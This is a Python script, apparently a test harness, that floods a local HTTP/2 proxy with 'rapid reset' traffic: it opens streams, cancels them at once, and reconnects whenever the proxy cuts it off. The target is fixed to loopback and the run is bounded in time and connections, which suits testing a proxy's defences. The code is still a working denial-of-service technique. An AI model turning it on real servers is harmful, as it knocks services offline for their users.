"""HTTP/2 "rapid reset" spread over connections that reconnect (h2, no TLS, prior knowledge):
each connection opens streams and resets them at once (HEADERS then RST_STREAM CANCEL), and
when the proxy cuts it off another takes its place. Sent from SOURCE (a loopback address other
than the normal clients'), for at most SECONDS and CONNECTIONS connections.

    h2_reset_flood.py --port PORT --source 127.0.0.2 --seconds 6 --connections 1200 --streams 250

Prints one JSON line: connections opened, streams reset, connections refused or cut.
"""
import argparse
import json
import select
import socket
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def flood_one(port, source, streams, deadline):
    """One connection: returns (streams reset, cut off early)."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0))
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    connection.initiate_connection()
    sent = 0
    try:
        sock.sendall(connection.data_to_send())
        stream_id = 1
        while sent < streams and time.time() < deadline:
            batch = min(25, streams - sent)
            for _ in range(batch):
                connection.send_headers(stream_id, [(":method", "GET"), (":path", f"/reset/{stream_id}"), (":scheme", "http"),
                                                    (":authority", f"127.0.0.1:{port}")], end_stream=True)
                connection.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                stream_id += 2
            sock.sendall(connection.data_to_send())
            sent += batch
            # Whatever the proxy sent meanwhile, without waiting for more.
            while select.select([sock], [], [], 0)[0]:
                data = sock.recv(65536)
                if not data:
                    return sent, True
                for event in connection.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        return sent, True
                pending = connection.data_to_send()
                if pending:
                    sock.sendall(pending)
        return sent, False
    except (OSError, h2.exceptions.ProtocolError):
        return sent, True
    finally:
        sock.close()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--seconds", type=float, default=6)
    parser.add_argument("--connections", type=int, default=1200)
    parser.add_argument("--streams", type=int, default=250)
    arguments = parser.parse_args()
    deadline = time.time() + arguments.seconds
    opened = reset = cut = refused = 0
    while opened + refused < arguments.connections and time.time() < deadline:
        try:
            sent, was_cut = flood_one(arguments.port, arguments.source, arguments.streams, deadline)
        except OSError:
            refused += 1
            continue
        opened += 1
        reset += sent
        cut += was_cut
    print(json.dumps({"connections": opened, "streamsReset": reset, "cut": cut, "refused": refused}), flush=True)


if __name__ == "__main__":
    main()
